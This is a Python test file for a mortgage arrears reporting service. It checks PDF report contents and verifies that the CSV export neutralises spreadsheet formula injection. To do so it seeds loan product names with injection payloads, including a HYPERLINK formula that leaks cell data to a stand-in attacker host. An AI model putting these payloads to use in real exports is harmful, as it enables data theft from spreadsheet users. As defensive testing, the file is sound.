"""Rendering: the PDF carries the figures; the CSV carries no formula and keeps its numbers."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator

import pytest
from pypdf import PdfReader

from arrears import migrate
from arrears.db import Database
from arrears.embedded import EmbeddedPostgres
from models.enums import PolicyPack, ReportKind
from tests.arrears.reports.portfolio import d, generate, table
from tests.factories import Portfolio


async def test_the_pdf_carries_the_figures(reports_db: Database) -> None:
    _, files = await generate(reports_db, ReportKind.LOSS_MITIGATION, PolicyPack.US_MORTGAGE)
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(files["pdf"])).pages)
    assert "Loss-mitigation timeliness" in text and "2025-03-01 to 2025-03-31" in text
    assert "acknowledged_within_5_business_days" in text and "0.5000" in text
    assert "2025-03-12" in text  # the late acknowledgment's day


FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"click")'


@pytest.fixture(scope="module")
async def hostile_db(postgres: EmbeddedPostgres) -> AsyncIterator[Database]:
    """A portfolio of its own whose loan products would run as formulas in a spreadsheet."""
    url = postgres.ensure_database(f"arrears_reports_{uuid.uuid4().hex[:8]}")
    migrate.upgrade(url)
    db = Database(url)
    async with db.session() as session:
        p = Portfolio(session)
        for product in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tlead", "\rlead", "-12.50"):
            await p.loan(dpd=45, as_of=d(3, 31), product=product)
    yield db
    await db.dispose()


async def test_the_csv_report_carries_no_formula_and_keeps_its_numbers(hostile_db: Database) -> None:
    """Text that a spreadsheet would run is exported with a leading quote; a plain number, even a
    negative one, stays a number. The JSON keeps every value as it is."""
    _, files = await generate(hostile_db, ReportKind.DELINQUENCY, PolicyPack.US_MORTGAGE)
    rows = list(csv.reader(io.StringIO(files["csv"].decode(), newline="")))
    header = rows[0]
    products = {r[header.index("product")] for r in rows[1:] if r and r[0] == "buckets"}
    assert products == {"'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tlead", "'\rlead", "-12.50"}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for cell in row:
            assert not cell.startswith(dangerous) or cell == "-12.50", cell
    assert {r["product"] for r in table(json.loads(files["json"]), "buckets")} >= {FORMULA, "-12.50"}
